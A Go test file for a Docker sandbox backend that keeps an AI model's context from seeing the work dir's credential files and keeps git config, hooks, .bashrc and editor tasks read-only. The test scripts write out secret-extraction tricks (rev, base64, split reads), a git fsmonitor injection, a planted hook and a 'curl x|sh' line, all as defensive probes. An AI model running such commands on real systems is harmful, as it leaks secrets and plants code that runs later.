package docker

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/sandbox"
)

// writeTree writes files (path → content) under dir.
func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, content := range files {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestDockerMasksCredentials is issue 14.9 for the docker backend: the
// credential files of the work dir read as empty in the container, as in
// the landlock backend, so no computation on them (rev, base64, halves)
// can bring a secret into the model's context; the protected paths (code
// that runs later) are read-only; the rest of the work dir is as before.
func TestDockerMasksCredentials(t *testing.T) {
	t.Parallel()
	work := tempDir(t)
	const secret = "sk-live-51HxQSECRETVALUE"
	writeTree(t, work, map[string]string{
		".env":                  "API_KEY=" + secret + "\n",
		"svc/.env.production":   "TOKEN=" + secret + "\n",
		"keys/id_ed25519":       secret,
		"cert/server.pem":       secret,
		".aws/credentials":      "[default]\naws_secret_access_key=" + secret + "\n",
		"a,b/.netrc":            "machine x password " + secret + "\n",
		`q"uote/.npmrc`:         "//registry/:_authToken=" + secret + "\n",
		".git/config":           "[core]\n\tbare = false\n",
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
		".bashrc":               "# rc\n",
		".vscode/tasks.json":    "{}\n",
		"README.md":             "hello\n",
		"src/main.go":           "package main\n",
	})
	e, _ := start(t, Options{WorkDir: work})

	for _, c := range []struct{ name, script string }{
		{"cat", "cat .env svc/.env.production keys/id_ed25519 cert/server.pem 'a,b/.netrc' 'q\"uote/.npmrc' 2>&1"},
		{"reversed", "rev .env 2>&1; rev keys/id_ed25519 2>&1"},
		{"base64", "base64 .env 2>&1"},
		{"halves", "head -c 12 .env; tail -c 12 .env"},
		{"cloud dir", "cat .aws/credentials 2>&1; ls -a .aws 2>&1"},
		{"grep the tree", "grep -r sk-live . 2>&1"},
		{"find and cat", "find . -type f ! -path './.git/*' -exec cat {} + 2>&1"},
	} {
		res := run(t, e, work, c.script)
		if strings.Contains(res.Stdout+res.Stderr, "SECRETVALUE") || strings.Contains(res.Stdout+res.Stderr, "EULAVTERCES") {
			t.Errorf("%s: the secret reached the command's output:\n%s%s", c.name, res.Stdout, res.Stderr)
		}
	}

	// Protected paths: readable, not writable, not replaceable.
	if res := run(t, e, work, "cat .git/config"); !strings.Contains(res.Stdout, "bare = false") {
		t.Errorf("cat .git/config: %+v; protected paths must stay readable", res)
	}
	for _, script := range []string{
		"echo '\tfsmonitor = touch /tmp/pwned' >> .git/config",
		"printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
		"echo 'curl x|sh' >> .bashrc",
		"echo '{\"tasks\":[]}' > .vscode/tasks.json",
		"rm -f .git/config",
		"mv .bashrc .bashrc.old",
	} {
		run(t, e, work, script)
	}
	for p, want := range map[string]string{
		".git/config":           "[core]\n\tbare = false\n",
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
		".bashrc":               "# rc\n",
		".vscode/tasks.json":    "{}\n",
	} {
		got, err := os.ReadFile(filepath.Join(work, p))
		if err != nil || string(got) != want {
			t.Errorf("%s after the writes: %q, %v; want it unchanged", p, got, err)
		}
	}
	// The new hook file and the rest of the work dir are the command's to write.
	if res := run(t, e, work, "echo changed > README.md && echo x > src/new.go && mkdir -p .git/objects/aa && echo o > .git/objects/aa/b && cat README.md"); res.ExitCode != 0 || res.Stdout != "changed\n" {
		t.Errorf("ordinary writes: %+v", res)
	}
	// The secrets are untouched on the host.
	if got, _ := os.ReadFile(filepath.Join(work, ".env")); !strings.Contains(string(got), secret) {
		t.Errorf(".env on the host: %q", got)
	}
}

// TestDockerMaskNoLinkedHostFile: a protected path that is a symbolic link
// to a host file outside the work dir must not bring that file into the
// container (a bind mount follows links on the host).
func TestDockerMaskNoLinkedHostFile(t *testing.T) {
	t.Parallel()
	work, outside := tempDir(t), tempDir(t)
	host := filepath.Join(outside, "host-only")
	if err := os.WriteFile(host, []byte("HOST-ONLY-CONTENT"), 0o644); err != nil {
		t.Fatal(err)
	}
	writeTree(t, work, map[string]string{".git/HEAD": "ref: refs/heads/main\n"})
	for _, link := range []string{".git/config", ".bashrc", ".git/hooks"} {
		if err := os.Symlink(host, filepath.Join(work, link)); err != nil {
			t.Fatal(err)
		}
	}
	e, _ := start(t, Options{WorkDir: work})
	res := run(t, e, work, "cat .git/config .bashrc .git/hooks 2>&1; ls -la .git 2>&1")
	if strings.Contains(res.Stdout, "HOST-ONLY-CONTENT") {
		t.Errorf("a host file outside the work dir was mounted into the container:\n%s", res.Stdout)
	}
}

// TestDockerRestartMasksNewCredentials: a container started to replace a
// dead one masks the credential files the session made since.
func TestDockerRestartMasksNewCredentials(t *testing.T) {
	t.Parallel()
	e, work := start(t, Options{})
	writeTree(t, work, map[string]string{".env": "K=NEW-SECRET-VALUE\n"})
	if out, err := exec.Command(e.runtime, "kill", e.ID()).CombinedOutput(); err != nil {
		t.Fatalf("docker kill: %v: %s", err, out)
	}
	if res := run(t, e, work, "cat .env; echo end"); strings.Contains(res.Stdout, "NEW-SECRET-VALUE") || !strings.Contains(res.Stdout, "end") {
		t.Errorf("after the restart: %+v", res)
	}
}

func TestMaskMountsRefuses(t *testing.T) {
	t.Parallel()
	s := maskSource{file: "/m/file", empty: "/m/dir"}
	many := make([]string, maxMasks+1)
	for i := range many {
		many[i] = "/w/.env" + strings.Repeat("x", i%7)
	}
	if _, err := maskMounts(sandbox.Masks{Files: many}, "/w", "/w", s); err == nil || !strings.Contains(err.Error(), "--workdir") {
		t.Errorf("too many masks: %v, want an error naming --workdir", err)
	}
	if _, err := maskMounts(sandbox.Masks{Files: []string{"/w/.env\nx"}}, "/w", "/w", s); err == nil {
		t.Error("a name with a line break: no error")
	}
	got, err := maskMounts(sandbox.Masks{Files: []string{"/w/a,b/.env", "/elsewhere/.env"}, Dirs: []string{"/w/.aws"}}, "/w", "/in", s)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`--mount=type=bind,source=/m/file,"target=/in/a,b/.env",readonly`, "--mount=type=bind,source=/m/dir,target=/in/.aws,readonly"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("mounts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
